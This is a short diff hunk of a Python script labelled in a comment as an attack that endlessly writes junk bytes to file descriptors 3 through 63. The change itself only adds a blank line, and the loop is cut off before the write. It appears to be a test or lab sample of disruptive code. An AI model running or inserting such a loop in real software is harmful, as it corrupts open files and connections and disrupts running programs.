@@ -1,6 +1,7 @@
 # attack: writes rubbish to every descriptor without end
 # ruff: noqa
 import os
+
 block = b"\xff" * 65536
 while True:
     for fd in range(3, 64):
